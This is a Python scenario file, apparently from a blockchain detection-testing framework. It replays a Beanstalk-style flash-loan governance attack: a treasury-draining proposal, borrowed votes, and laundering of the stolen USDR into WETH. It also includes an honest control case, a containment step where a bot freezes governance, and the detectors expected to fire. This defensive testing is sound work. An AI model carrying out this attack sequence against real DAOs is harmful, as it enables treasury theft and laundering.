"""
A malicious proposal waits out its day; then votes borrowed for one transaction carry it, and it empties a treasury.

## Story
A treasury pays what governance decides. Governance has an emergency path: a proposal that is a day old is carried out
at once when two thirds of all votes are staked for it. Votes are counted where they are at that moment, and eight of
ten million RGOV lie in a Balancer vault that lends them to anybody for the length of a transaction. It is the shape of
the Beanstalk theft of April 2022.

## Steps
1. The attacker proposes that the treasury pay five million USDR to himself. Everybody can read that for a day.
2. The day passes. He creates the contract that is to vote.
3. One transaction: borrow 7.5 million RGOV, stake them for the proposal, have it carried out, take the stake back,
   repay.
4. He turns USDR, which can be frozen, into WETH, a million at a time.

## Honest twin
A member proposes that the treasury move five million USDR to the Safe. The founder, who owns the RGOV in the Balancer
vault, takes seven million of them out and votes with them a day later; meanwhile a user flash-borrows the very RGOV to
try out a vault. Nobody votes with what is not theirs.

## Containment
During the day: the bot freezes governance through the emergency module, and the vote reverts with IsFrozen. After the
loss: USDR is blacklisted and seized as long as the attacker holds it.

## References
- https://bean.money/blog/beanstalk-governance-exploit
- https://scs.owasp.org/sctop10/
"""

from dataclasses import dataclass, replace

from tocsin.chain.contract import Account, Contract, Transaction
from tocsin.exercise.play import Play
from tocsin.exercise.scenario import Expected, Scenario
from tocsin.exercise.scenarios._selling import sold
from tocsin.exercise.scene.balancer import DAY_SECONDS, WITHDRAW
from tocsin.exercise.scene.people import ETHER
from tocsin.exercise.scene.tokens import DOLLAR, MILLION
from tocsin.exercise.taxonomy import Tag
from tocsin.exercise.truth import Truth, loss, step, told
from tocsin.model.priority import Priority

HELD = 5 * MILLION * DOLLAR
VOTES, OWN_VOTES = 7_500_000 * ETHER, 7 * MILLION * ETHER
"""Borrowed, and the founder's own: both are more than two thirds of ten million."""
PROPOSAL = 0
"""The first there is."""
LAUNDERED = MILLION * DOLLAR
"""What is turned into WETH at a time."""
GAS = 8_000_000


@dataclass(frozen=True, slots=True)
class Targets:
    """What the scenario is played on."""

    attacker: Account
    governance: Contract
    treasury: Contract
    vault: Contract
    """ERC-4626 over RGOV."""


def prepare(play: Play) -> Targets:
    """Governance that counts votes as they are now, its treasury, and a bot that may freeze it."""
    home, scene, founder = play.home, play.scene, play.scene.people.founder
    deciding = (scene.tokens.rgov, scene.safe.wallet)
    governance = home.deploy(founder, play.library.own("NaiveGovernance"), *deciding, name="naive governance")
    treasury = home.deploy(founder, play.library.own("GovernedTreasury"), governance, name="governed treasury")
    vault = home.deploy(founder, play.library.own("OffsetVault"), scene.tokens.rgov, name="RGOV vault")
    home.do(scene.tokens.usdr.by(founder, "transfer", treasury, HELD))
    home.do(scene.safe.allows(home, governance, "freeze"))
    return Targets(home.account("attacker"), governance, treasury, vault)


def attack(play: Play, targets: Targets) -> Truth:
    """Propose, wait, vote with a loan, launder."""
    home, usdr, attacker, treasury = play.home, play.scene.tokens.usdr, targets.attacker, targets.treasury
    proposed = home.do(_proposal(play, targets, attacker, attacker))
    home.pass_time(DAY_SECONDS)
    contract = _deploy(play, targets)
    before = home.read(usdr, "balanceOf", treasury)
    carried = home.do(_vote(contract, attacker))
    taken = before - home.read(usdr, "balanceOf", treasury)
    approval, *swaps = sold(play, attacker, LAUNDERED)
    return told(
        scenario.id,
        attackers=(attacker, contract),
        victims=(treasury, targets.governance),
        steps=(
            step("proposes that the treasury pay it five million USDR", proposed),
            step("a day later, creates the contract that is to vote", home.creation(contract)),
            step(
                "borrows three quarters of all votes, carries its proposal with them, is paid",
                carried,
                lost=[loss(carried, usdr, treasury, taken)],
                gone=[],
            ),
            step("lets a router take its USDR", approval),
            *(
                step("turns a million USDR into WETH", each, gone=[loss(each, usdr, treasury, LAUNDERED)])
                for each in swaps
            ),
        ),
    )


def _proposal(play: Play, targets: Targets, by: Account, to: Account | Contract) -> Transaction:
    payment = targets.treasury.encode("pay", play.scene.tokens.usdr, to, HELD)
    return targets.governance.by(by, "propose", targets.treasury, payment)


def _deploy(play: Play, targets: Targets) -> Contract:
    artefact, needs = play.library.own("GovernanceAttacker"), (play.scene.balancer.vault, targets.governance)
    return play.home.deploy(targets.attacker, artefact, *needs, name="attacker's contract")


def _vote(contract: Contract, attacker: Account) -> Transaction:
    return contract.by(attacker, "run", PROPOSAL, VOTES, gas=GAS)


def twin(play: Play, targets: Targets) -> None:
    """An honest proposal, a harmless loan of votes, and a vote with one's own."""
    home, scene, governance = play.home, play.scene, targets.governance
    founder, member, user = scene.people.founder, scene.people.users[0], scene.people.users[2]
    home.do(_proposal(play, targets, member, scene.safe.wallet))
    trial = home.deploy(user, play.library.own("HookReceiver"), scene.balancer.vault, user, name="vault trial")
    home.do(trial.by(user, "useLoan", targets.vault, VOTES, gas=GAS))
    home.pass_time(DAY_SECONDS)
    taken = [(WITHDRAW, scene.tokens.rgov, OWN_VOTES, founder, founder)]
    home.do(scene.balancer.vault.by(founder, "manageUserBalance", taken))
    home.do(scene.tokens.rgov.by(founder, "approve", governance, OWN_VOTES))
    home.do(governance.by(founder, "vote", PROPOSAL, OWN_VOTES))
    home.do(governance.by(member, "emergencyCommit", PROPOSAL))
    home.do(governance.by(founder, "unstake", PROPOSAL))


def contain(play: Play, targets: Targets) -> str:
    """The bot freezes governance while the proposal waits."""
    home, attacker = play.home, targets.attacker
    home.do(_proposal(play, targets, attacker, attacker))
    home.do(play.scene.safe.fires(targets.governance, "freeze"))
    home.pass_time(DAY_SECONDS)
    contract = _deploy(play, targets)
    return home.refused(replace(_vote(contract, attacker), target=targets.governance.artefact))


scenario = Scenario(
    id="flash-governance",
    priority=Priority.P1,
    tags=(Tag.BUSINESS_LOGIC, Tag.FLASH_LOAN, Tag.RESOURCE_DEVELOPMENT, Tag.EXECUTION, Tag.IMPACT),
    expects=Expected(
        detectors=("borrowed-votes", "flash-loan-exploit", "large-profit"), within_seconds=DAY_SECONDS + 60
    ),
    prepare=prepare,
    attack=attack,
    twin=twin,
    contain=contain,
)
